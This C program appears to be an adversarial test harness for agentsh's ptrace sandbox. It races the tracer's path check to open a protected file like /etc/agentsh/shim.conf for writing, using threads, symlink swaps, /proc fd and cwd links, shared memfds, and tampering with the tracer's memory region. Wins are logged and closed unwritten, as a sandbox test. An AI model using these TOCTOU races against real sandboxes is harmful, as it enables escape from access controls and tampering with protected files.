/* The files family's attacker: tries to open a protected file for writing
 * (TARGET, e.g. /etc/agentsh/shim.conf) by racing the tracer's check.
 *
 *   filerace thread TARGET DIR SECONDS
 *       one thread opens a path O_WRONLY in a loop while another rewrites
 *       the path's bytes between DIR/ok and TARGET;
 *   filerace swap TARGET DIR SECONDS
 *       a child process swaps DIR/x between a plain file and a symlink to
 *       TARGET (symlink + rename over it, a file + rename over it) while the
 *       parent opens DIR/x O_WRONLY in a loop.
 *   filerace procfd TARGET DIR SECONDS
 *       a child process dup2s fd 50 between DIR/ok and TARGET (opened
 *       read-only) and fchdirs between DIR and TARGET's directory, while
 *       the parent opens /proc/CHILD/fd/50 and /proc/CHILD/cwd/NAME
 *       (NAME: TARGET's and DIR/ok's last component, in turn) O_WRONLY,
 *       and DIR/ok directly (which must open);
 *   filerace shared TARGET DIR SECONDS
 *       the path lies in a MAP_SHARED memfd that a child process (no thread
 *       of the caller: nothing the tracer holds) rewrites between DIR/ok
 *       and TARGET while the parent opens it O_WRONLY in a loop;
 *   filerace literal TARGET DIR SECONDS
 *       opens "/dev/null" read-write from a string literal of this
 *       program's own text (its file's private pages, in a place the tree
 *       may write): what any program does; must open;
 *   filerace region TARGET DIR SECONDS
 *       after the others' checks, tries every way at the region the tracer
 *       copies judged paths into (mprotect, munmap, mremap, madvise, mmap
 *       over it, /proc/self/mem), each printed "REGION <how> changed" if it
 *       worked, "REGION <how> refused: <error>" if not.
 *
 * Every fd opened is fstat'ed: one on TARGET's inode is a win, printed as
 * "WON <how>" (and closed unwritten). At the end: "opened N refused M". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char path[4096];
static char ok_path[4096];
static const char *target;
static atomic_int stop;
static struct stat target_st;
static long opened, refused, won;

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void check(int fd, const char *how) {
    struct stat st;
    if (fd < 0) {
        refused++;
        return;
    }
    opened++;
    if (fstat(fd, &st) == 0 && st.st_dev == target_st.st_dev &&
        st.st_ino == target_st.st_ino) {
        char link[64], where[4096];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, where, sizeof where - 1);
        where[n > 0 ? n : 0] = 0;
        won++;
        printf("WON %s: %s (dev %lu ino %lu)\n", how, where,
               (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        fflush(stdout);
    }
    close(fd);
}

static void *rewriter(void *arg) {
    (void)arg;
    size_t n = strlen(target) + 1, m = strlen(ok_path) + 1;
    while (!atomic_load(&stop)) {
        memcpy(path, target, n);
        memcpy(path, ok_path, m);
    }
    return NULL;
}

static int thread_mode(double seconds) {
    pthread_t t;
    strcpy(path, ok_path);
    pthread_create(&t, NULL, rewriter, NULL);
    double end = now() + seconds;
    while (now() < end)
        check(open(path, O_WRONLY | O_APPEND), "thread");
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    return 0;
}

static int swap_mode(const char *dir, double seconds) {
    char x[4096], tmp_link[4096], tmp_file[4096];
    snprintf(x, sizeof x, "%s/x", dir);
    snprintf(tmp_link, sizeof tmp_link, "%s/x.link", dir);
    snprintf(tmp_file, sizeof tmp_file, "%s/x.file", dir);
    int fd = open(x, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0)
        close(fd);
    pid_t child = fork();
    if (child == 0) {
        for (;;) {
            unlink(tmp_link);
            if (symlink(target, tmp_link) == 0)
                rename(tmp_link, x);
            int f = open(tmp_file, O_CREAT | O_WRONLY, 0644);
            if (f >= 0) {
                close(f);
                rename(tmp_file, x);
            }
        }
    }
    double end = now() + seconds;
    while (now() < end)
        check(open(x, O_WRONLY | O_APPEND), "swap");
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}

static int procfd_mode(const char *dir, double seconds) {
    char name[4096], ok_name[4096], target_dir[4096];
    const char *slash = strrchr(target, '/');
    snprintf(name, sizeof name, "%s", slash ? slash + 1 : target);
    snprintf(ok_name, sizeof ok_name, "ok");
    snprintf(target_dir, sizeof target_dir, "%.*s", slash ? (int)(slash - target) : 1,
             slash && slash != target ? target : "/");
    pid_t child = fork();
    if (child == 0) {
        int ok = open(ok_path, O_RDONLY), tg = open(target, O_RDONLY);
        int d1 = open(dir, O_RDONLY | O_DIRECTORY), d2 = open(target_dir, O_RDONLY | O_DIRECTORY);
        for (;;) {
            dup2(ok, 50);
            fchdir(d1);
            dup2(tg, 50);
            fchdir(d2);
        }
    }
    char fdlink[64], cwd_target[4200], cwd_ok[4200];
    snprintf(fdlink, sizeof fdlink, "/proc/%d/fd/50", child);
    snprintf(cwd_target, sizeof cwd_target, "/proc/%d/cwd/%s", child, name);
    snprintf(cwd_ok, sizeof cwd_ok, "/proc/%d/cwd/%s", child, ok_name);
    double end = now() + seconds;
    while (now() < end) {
        check(open(fdlink, O_WRONLY | O_APPEND), "procfd fd");
        check(open(cwd_target, O_WRONLY | O_APPEND), "procfd cwd");
        check(open(cwd_ok, O_WRONLY | O_APPEND), "procfd cwd");
        check(open(ok_path, O_WRONLY | O_APPEND), "procfd direct");
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}

static int shared_mode(double seconds) {
    int mfd = memfd_create("path", 0);
    if (mfd < 0 || ftruncate(mfd, 4096) != 0) {
        perror("memfd");
        return 2;
    }
    char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, mfd, 0);
    if (p == MAP_FAILED) {
        perror("mmap");
        return 2;
    }
    strcpy(p, ok_path);
    size_t n = strlen(target) + 1, m = strlen(ok_path) + 1;
    pid_t child = fork();
    if (child == 0) {
        for (;;) {
            memcpy(p, target, n);
            memcpy(p, ok_path, m);
        }
    }
    double end = now() + seconds;
    while (now() < end)
        check(open(p, O_WRONLY | O_APPEND), "shared");
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return 0;
}

/* Where agentsh's ptrace backend keeps its copies (tracee::pin::BASE). */
#define REGION 0x4a8000000000UL

static void region_try(const char *how, long rc) {
    if (rc == -1 || rc == (long)MAP_FAILED)
        printf("REGION %s refused: %s\n", how, strerror(errno));
    else
        printf("REGION %s changed\n", how);
    fflush(stdout);
}

static int region_mode(double seconds) {
    char line[512];
    int found = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strtoul(line, NULL, 16) == REGION)
            found = 1;
    if (maps)
        fclose(maps);
    printf(found ? "REGION mapped\n" : "REGION absent\n");
    void *r = (void *)REGION;
    region_try("madvise", madvise(r, 4096, MADV_DONTNEED));
    region_try("mremap", (long)mremap(r, 4096, 4096, MREMAP_MAYMOVE | MREMAP_FIXED,
                                      (void *)(REGION - (1UL << 30))));
    region_try("mmap-fixed", (long)mmap(r, 4096, PROT_READ | PROT_WRITE,
                                        MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED, -1, 0));
    region_try("munmap", munmap(r, 4096));
    region_try("munmap-all", munmap((void *)4096, (1UL << 47) - 8192));
    int mem = open("/proc/self/mem", O_RDWR);
    region_try("proc-mem", mem < 0 ? -1 : pwrite(mem, "x", 1, (off_t)REGION));
    if (mem >= 0)
        close(mem);
    region_try("mprotect", mprotect(r, 4096, PROT_READ | PROT_WRITE));
    region_try("pkey_mprotect", syscall(329, r, 4096, PROT_READ | PROT_WRITE, 0));
    (void)seconds;
    return 0;
}

static int literal_mode(double seconds) {
    double end = now() + seconds;
    while (now() < end)
        check(open("/dev/null", O_RDWR), "literal");
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: filerace thread|swap|procfd|shared|region|literal TARGET DIR SECONDS\n");
        return 2;
    }
    target = argv[2];
    if (stat(target, &target_st) != 0) {
        perror(target);
        return 2;
    }
    snprintf(ok_path, sizeof ok_path, "%s/ok", argv[3]);
    int fd = open(ok_path, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0)
        close(fd);
    double seconds = atof(argv[4]);
    int r = strcmp(argv[1], "thread") == 0   ? thread_mode(seconds)
            : strcmp(argv[1], "swap") == 0   ? swap_mode(argv[3], seconds)
            : strcmp(argv[1], "procfd") == 0 ? procfd_mode(argv[3], seconds)
            : strcmp(argv[1], "shared") == 0 ? shared_mode(seconds)
            : strcmp(argv[1], "region") == 0 ? region_mode(seconds)
            : strcmp(argv[1], "literal") == 0 ? literal_mode(seconds)
                                             : 2;
    printf("opened %ld refused %ld won %ld\n", opened, refused, won);
    return r;
}
